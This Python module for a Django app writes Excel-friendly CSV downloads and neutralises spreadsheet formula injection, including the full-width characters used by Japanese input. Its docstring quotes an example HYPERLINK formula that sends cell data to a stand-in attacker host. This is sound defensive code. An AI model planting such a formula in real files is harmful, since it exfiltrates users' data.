"""CSV downloads that Excel in Japan opens correctly (UTF-8 with a byte-order mark) and safely.

Every text cell goes through `csv_safe`: a cell that begins with =, +, -, @, a tab or a carriage return would be
read by Excel (or LibreOffice) as a formula, so a company called =HYPERLINK("http://evil.example/?x="&A1,"x")
could send the desk's data away. Japanese Excel also takes the full-width signs (＝ ＋ － ＠, and the minus sign
U+2212 an IME may type) as their ASCII forms, and a formula may hide behind leading spaces (ASCII or the
ideographic space). Such a cell gets a leading apostrophe (OWASP's advice), which the spreadsheet shows as plain
text. Numbers stay numbers.
"""

import csv
from collections.abc import Iterable, Sequence
from decimal import Decimal

from django.http import HttpResponse

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "\u2212")
LEADING_SPACE = " \u3000"


def csv_safe(value: object) -> object:
    """The cell as text a spreadsheet will not evaluate; numbers and empty cells unchanged."""
    if isinstance(value, bool) or value is None or isinstance(value, int | float | Decimal):
        return value
    text = str(value)
    if text.startswith(FORMULA_TRIGGERS) or text.lstrip(LEADING_SPACE).startswith(FORMULA_TRIGGERS):
        return "'" + text
    return text


def csv_response(*, filename: str, header: Sequence[object], rows: Iterable[Sequence[object]]) -> HttpResponse:
    """An attachment with the BOM first, then the header row and the data rows, every cell through csv_safe."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response.write("\ufeff")
    writer = csv.writer(response)
    writer.writerow([csv_safe(cell) for cell in header])
    writer.writerows([csv_safe(cell) for cell in row] for row in rows)
    return response
